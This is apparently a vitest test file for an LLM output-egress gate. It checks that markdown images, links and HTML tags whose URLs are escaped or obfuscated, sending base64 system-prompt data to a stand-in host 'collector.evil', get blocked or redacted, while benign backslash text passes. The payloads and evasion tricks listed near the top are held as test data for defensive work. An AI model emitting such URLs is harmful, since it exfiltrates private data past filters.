/**
 * Egress URLs in escaped dress (issue 19, break-it round): the egress check reads each URL
 * every way a client may — CommonMark backslash escapes removed, HTML character references
 * decoded, the WHATWG URL parser's own normalisation (backslash as a path separator in
 * http(s), tab and newline stripped, host percent-decoded, IDNA, trailing dot, IPv4 number
 * forms) — and a URL two readings send to two hosts is judged by the off-list one.
 */
import { describe, expect, it } from "vitest";
import { parseConfig, RampartError } from "../../src/core/index.js";
import { collectGateStream, compileGatePolicy, deterministicGate, gateAnswer, gateStream } from "../../src/gate/index.js";
import { extractUrls } from "../../src/gate/egress/index.js";
import { cut, tokensOf } from "../helpers/stream.js";

const policy = compileGatePolicy(parseConfig({ gate: { egress: { allow: { images: ["cdn.example.com"], links: ["*.example.com"] } } } }));
const DATA = "d=SGVsbG8sIHN5c3RlbSBwcm9tcHQ="; // base64 of "Hello, system prompt"

// An off-list URL in escaped dress, and how a client reads it.
const ESCAPED: [string, string][] = [
  [`https\\://collector.evil/p.gif?${DATA}`, "a Markdown escape before the colon (rendered https://collector.evil)"],
  [`https://cdn.example.com\\.collector.evil/p.gif?${DATA}`, "an escaped dot glues an allowed host to an off-list one"],
  [`https://cdn.example.com&#x5c;.collector.evil/p.gif?${DATA}`, "a hex character reference for the backslash"],
  [`https://cdn.example.com&bsol;.collector.evil/p.gif?${DATA}`, "a named character reference for the backslash"],
  [`https://collector&period;evil/p.gif?${DATA}`, "a named reference for the dot of the host"],
  [`https://collector&#46;evil/p.gif?${DATA}`, "a decimal reference for the dot of the host"],
  [`https://cdn.example.com%2Ecollector.evil/p.gif?${DATA}`, "a percent-escaped dot in the host (WHATWG decodes it)"],
  [`https://0x7f.1/p.gif?${DATA}`, "a hex IPv4 short form (127.0.0.1)"],
  [`https://2130706433/p.gif?${DATA}`, "an IPv4 address as one decimal number"],
  [`https://xn--collector-evil.example.net/p.gif?${DATA}`, "punycode host"],
  [`\\\\collector.evil\\p.gif?${DATA}`, "backslashes as protocol-relative slashes"],
];
const FORMS: [string, (u: string) => string][] = [
  ["markdown image", (u) => `Here: ![chart](${u}) done`],
  ["markdown link", (u) => `See [the report](${u}) please`],
  ["html img", (u) => `<img src="${u}" width="1" height="1">`],
  ["html a", (u) => `<a href="${u}">report</a>`],
];

describe("each escape form × each construct is checked against the allow-list", () => {
  for (const [url, why] of ESCAPED) {
    it.each(FORMS)(`${why} — %s`, (_form, wrap) => {
      const answer = wrap(url);
      const v = deterministicGate(answer, policy);
      expect(v.action, answer).not.toBe("pass");
      expect(v.findings.some((f) => f.id === "egress")).toBe(true);
    });
  }

  it.each([
    ["an autolink with an escaped dot", `<https://cdn.example.com\\.collector.evil/p?${DATA}>`],
    ["an autolink with a percent-escaped dot", `<https://cdn.example.com%2Ecollector.evil/p?${DATA}>`],
    ["a bare URL with a backslash in the host", `open https://cdn.example.com\\.collector.evil/p?${DATA} now`],
    ["a reference-style image with an escaped colon", `![x][r]\n\n[r]: https\\://collector.evil/p.gif`],
    ["an img src with a tab inside the host", `<img src="https://collec\ttor.evil/p.gif">`],
  ])("%s", (_k, answer) => {
    expect(deterministicGate(answer, policy).action).not.toBe("pass");
  });

  it("an allowed link pattern cannot be stretched by an escaped dot (*.example.com)", () => {
    const answer = `[docs](https://docs.example.com\\.collector.evil/?${DATA})`;
    expect(deterministicGate(answer, policy).findings.map((f) => f.category)).toContain("egress.link");
  });
});

describe("hard negatives: escapes that change nothing, and backslashes that are no URL", () => {
  it.each([
    ["an allowed image with an escaped underscore in its path", "![x](https://cdn.example.com/p\\_q.png)"],
    ["an allowed image with an escaped colon", "![x](https\\://cdn.example.com/p.png)"],
    ["an allowed image host spelled with references", "![x](https://cdn&period;example&#46;com/p.png)"],
    ["an allowed image host in capitals with a trailing dot", "![x](HTTPS://CDN.Example.COM./p.png)"],
    ["an allowed img with a backslash in its path", '<img src="https://cdn.example.com/a\\b.png">'],
    ["an allowed link with an escape in its path", `[docs](https://docs.example.com/a\\_b?${DATA})`],
    ["a Windows path in prose", "Save it to C:\\Users\\kim\\report.txt and reopen."],
    ["a UNC path in prose", "The share is \\\\fileserver\\team\\q3 on the LAN."],
    ["a regular expression in prose", "Use \\d+\\.\\d+ to match a version such as 1.2."],
    ["LaTeX", "The ratio is \\frac{1}{2} and \\alpha \\to 0."],
    ["a link without data to an escaped host (links without data pass)", "[home](https://example.org\\/about)"],
  ])("passes %s", (_k, answer) => {
    expect(deterministicGate(answer, policy).action).toBe("pass");
  });
});

describe("escaped egress on the stream", () => {
  const answers = [
    `앞 문장. ![x](https\\://collector.evil/p.gif?${DATA}) 뒤 문장.`,
    `Before. ![x](https://cdn.example.com\\.collector.evil/p.gif) after.`,
    `Before. <img src="https://cdn.example.com&bsol;.collector.evil/p.gif"> after.`,
  ];
  it.each(answers.map((a) => [a.slice(0, 40), a] as const))("every cut position releases the whole answer's redaction: %s", async (_l, answer) => {
    const whole = await gateAnswer(answer, policy);
    expect(whole.action).toBe("redact");
    for (let i = 0; i <= answer.length; i += 3) {
      const out = await collectGateStream(gateStream(tokensOf([answer.slice(0, i), answer.slice(i)]), policy));
      expect(out.text, `cut at ${i}`).toBe(whole.action === "redact" ? whole.text : "");
    }
    const single = await collectGateStream(gateStream(tokensOf(cut(answer, [...answer].map((_, i) => i))), policy));
    expect(single.text).not.toContain("collector");
  });
});

describe("extractUrls input", () => {
  it.each([[null], [undefined], [42], [{}]])("rejects %j with ERR_BAD_INPUT", (bad) => {
    let caught: unknown;
    try {
      extractUrls(bad as unknown as string);
    } catch (e) {
      caught = e;
    }
    expect(caught).toBeInstanceOf(RampartError);
    expect((caught as RampartError).code).toBe("ERR_BAD_INPUT");
  });
});
